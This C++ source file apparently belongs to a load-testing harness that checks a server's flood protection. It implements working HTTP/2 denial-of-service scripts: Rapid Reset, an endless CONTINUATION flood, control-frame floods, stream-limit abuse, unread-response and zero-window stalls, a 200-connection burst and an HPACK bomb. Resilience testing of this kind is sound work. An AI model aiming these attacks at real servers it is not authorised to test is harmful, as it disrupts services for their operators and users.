// Attacks by frames and heads of HTTP/2, all without a key.
#include <memory>

#include "siege/attack/http2_script.h"

namespace tocsin::bench::siege {
namespace {

using http2::append_frame;
using http2::append_u32_frame;
using http2::request_block;

constexpr char app_path[] = "/v1/apps/siege";
constexpr char large_answer_path[] = "/openapi.json";
// As many answers without a key as the server gives a connection at once, by its FloodGuard.
constexpr size_t free_answers = 90;
constexpr size_t streams_max = 256;
constexpr uint32_t burst_sockets = 200;

// The same frame, again and again, and before it a request when `opens`, whose body does not end.
class Frames final : public Http2Script {
 public:
  Frames(http2::Type type, uint8_t flags, uint32_t stream, const std::string& payload,
         bool opens = false)
      : Http2Script(http2::window_default), opens_(opens) {
    while (batch_.size() < batch_bytes) append_frame(batch_, type, flags, stream, payload);
  }

 private:
  void go_on(std::string& out) override {
    if (opens_) begin(out, http2::grpc_block(http2::health_check), 0);
    opens_ = false;
    out += batch_;
  }

  std::string batch_;
  bool opens_;
};

class RapidReset final : public Http2Script {
  void go_on(std::string& out) override {
    while (out.size() < batch_bytes) {
      const uint32_t stream = begin(out, block_, http2::end_stream);
      append_u32_frame(out, http2::rst_stream, stream, http2::cancel);
      forget(stream);
    }
  }

  const std::string block_ = request_block("GET", app_path);
};

// Keeps `at_once` requests without a body under way; all of them are answered.
class Requests final : public Http2Script {
 public:
  explicit Requests(std::string block) : block_(std::move(block)) {}

 private:
  static constexpr size_t at_once = 100;
  void go_on(std::string& out) override {
    while (open_streams() < at_once) begin(out, block_, http2::end_stream);
  }

  const std::string block_;
};

// Requests for a large answer, of which nothing is taken: at the socket, or by closed windows.
class Untaken : public Http2Script {
 public:
  Untaken(bool reads, uint32_t window) : Http2Script(window), reads_(reads) {}
  bool reads() const override { return reads_; }

 private:
  void go_on(std::string& out) override {
    while (open_streams() < free_answers) begin(out, block_, http2::end_stream);
  }

  const std::string block_ = request_block("GET", large_answer_path);
  const bool reads_;
};

// The same on many connections, which all ask in the same moment.
class UntakenBurst final : public Untaken {
 public:
  UntakenBurst() : Untaken(false, http2::window_max) {}

 private:
  static constexpr uint64_t period_ms = 3'000;
  static constexpr uint64_t open_ms = 200;  // of a period

  bool lies_in_wait(uint64_t now_ms) override { return now_ms % period_ms >= open_ms; }
};

// A head that never ends.
class Continuation final : public Http2Script {
  void go_on(std::string& out) override {
    if (!has_begun_) {
      append_frame(out, http2::headers, 0, 1, request_block("GET", app_path));
      has_begun_ = true;
    }
    while (out.size() < batch_bytes) append_frame(out, http2::continuation, 0, 1, field_);
  }

  static std::string field() {
    std::string block;
    http2::append_field(block, "x-siege", std::string(100, 'x'));
    return block;
  }

  const std::string field_ = field();
  bool has_begun_ = false;
};

// All streams are taken; more are opened nevertheless, which are refused as long as it might not
// know better (RFC 9113 section 5.1.2); `acknowledges`: it does.
class RefusedStreams final : public Http2Script {
 public:
  explicit RefusedStreams(bool acknowledges) : acknowledges_(acknowledges) {}

 private:
  bool acknowledges() const override { return acknowledges_; }
  void go_on(std::string& out) override {
    while (held_ < streams_max) {
      begin(out, post_, 0);
      ++held_;
    }
    while (out.size() < batch_bytes) forget(begin(out, get_, http2::end_stream));
  }

  const std::string post_ = http2::grpc_block(http2::health_check);
  const std::string get_ = request_block("GET", app_path);
  const bool acknowledges_;
  size_t held_ = 0;
};

// One large field in the table, and heads of nothing but references to it, as long as nghttp2 takes
// them (8 CONTINUATION frames).
class HpackBomb final : public Http2Script {
  static constexpr size_t value_bytes = 3'900;
  static constexpr size_t references = 120'000;
  static constexpr size_t at_once = 4;

  void go_on(std::string& out) override {
    if (!has_begun_) {
      std::string first = request_block("GET", app_path);
      http2::append_kept_field(first, "x", std::string(value_bytes, 'x'));
      begin(out, first, http2::end_stream);
      has_begun_ = true;
    }
    while (open_streams() < at_once) begin(out, bomb_, http2::end_stream);
  }

  static std::string bomb() {
    std::string block = request_block("GET", app_path);
    for (size_t i = 0; i < references; ++i) {
      http2::append_known_field(block, http2::first_kept_index);
    }
    return block;
  }

  const std::string bomb_ = bomb();
  bool has_begun_ = false;
};

template <typename Made, typename... Arguments>
Attack::MakeScript make(Arguments... arguments) {
  return [=](const Prey&, uint32_t) { return std::make_unique<Made>(arguments...); };
}

}  // namespace

std::vector<Attack> http2_attacks() {
  constexpr auto http2 = Approach::http2;
  const std::string eight(8, '\0');
  const std::string setting("\0\x03\0\0\0\x64", 6);
  const std::string dependency("\0\0\0\0\x10", 5);
  const std::string increment("\0\0\0\x01", 4);
  return {
      {"rapid-reset", "HEADERS and RST_STREAM in pairs", http2, make<RapidReset>()},
      {"headers-no-key", "requests without a key, answers are read", http2,
       make<Requests>(request_block("GET", app_path))},
      {"continuation", "a head of endless CONTINUATION frames", http2, make<Continuation>()},
      {"settings", "SETTINGS frames", http2,
       make<Frames>(http2::settings, uint8_t{0}, 0u, setting)},
      {"ping", "PING frames", http2, make<Frames>(http2::ping, uint8_t{0}, 0u, eight)},
      {"priority", "PRIORITY frames", http2,
       make<Frames>(http2::priority, uint8_t{0}, 1u, dependency)},
      {"empty-data", "DATA frames without data", http2,
       make<Frames>(http2::data, uint8_t{0}, 1u, std::string(), true)},
      {"window-update", "WINDOW_UPDATE frames", http2,
       make<Frames>(http2::window_update, uint8_t{0}, 0u, increment)},
      {"refused-streams", "more streams than may be open, unaware of the limit", http2,
       make<RefusedStreams>(false)},
      {"excess-streams", "more streams than may be open", http2, make<RefusedStreams>(true)},
      {"unread-replies", "requests for 100 KB, never read from the socket", http2,
       make<Untaken>(false, http2::window_max)},
      {"unread-burst", "the same on 200 connections that ask in the same moment", http2,
       make<UntakenBurst>(), burst_sockets},
      {"closed-window", "requests for 100 KB, and a window of 0", http2, make<Untaken>(true, 0u)},
      {"hpack-bomb", "heads that refer 120,000 times to a field of 4 KB", http2, make<HpackBomb>()},
  };
}

}  // namespace tocsin::bench::siege
